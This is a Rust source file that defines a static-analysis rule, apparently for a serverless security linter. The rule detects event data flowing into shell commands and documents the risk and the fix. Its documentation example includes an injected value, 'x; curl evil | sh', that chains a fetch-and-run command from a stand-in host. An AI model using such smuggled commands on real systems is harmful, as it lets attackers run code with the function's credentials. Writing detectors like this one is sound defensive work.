use warden_rules::{declare_rule, RuleMeta};

use crate::context::Context;
use crate::rules::{injection, CodeRule, Reporter};
use crate::table::SinkKind;

declare_rule! {
    /// ## What it does
    /// Flags event data (request body, query, path and header parameters, queue and topic messages, S3 object keys, stream records) that reaches a shell command: `child_process.exec`/`execSync`, `spawn` with `shell: true`, `os.system`, `os.popen`, `subprocess` with `shell=True`.
    ///
    /// The severity follows who can reach the function in the template: critical behind an
    /// unauthenticated public route or function URL, high behind an authorizer, medium when only
    /// internal triggers reach it. The finding names that route or trigger and gives the path
    /// from the event to the sink.
    ///
    /// ## Why is this bad?
    /// The shell interprets `;`, `|`, `$(...)` and backquotes in the data: whoever controls the event runs commands with the function's role, reads its environment (and the credentials in it) and reaches everything the role can reach.
    ///
    /// ## Example
    /// ```python
    /// def handler(event, context):
    ///     name = event["queryStringParameters"]["name"]
    ///     os.system(f"convert {name} out.png")    # name = "x; curl evil | sh"
    /// ```
    ///
    /// ## Fix
    /// Pass arguments as a list without a shell (`subprocess.run(["convert", name, "out.png"])`, `execFile("convert", [name])`), quote with `shlex.quote` where a shell is unavoidable, and validate the value against an allow-list.
    ///
    /// ## References
    /// - <https://owasp.org/www-project-serverless-top-10/>
    /// - <https://cwe.mitre.org/data/definitions/78.html>
    pub struct EventDataToShell {
        code: "WD001",
        name: "event-data-to-shell",
        risk: EventInjection,
        severity: Critical,
        formats: ["python", "javascript", "typescript"],
        help: "Do not build shell commands from event data: pass arguments as a list without a shell, or quote them (`shlex.quote`) and check them against an allow-list.",
    }
}

impl CodeRule for EventDataToShell {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, context: &Context<'_>, out: &mut Reporter) {
        injection::check(SinkKind::Shell, context, out);
    }
}
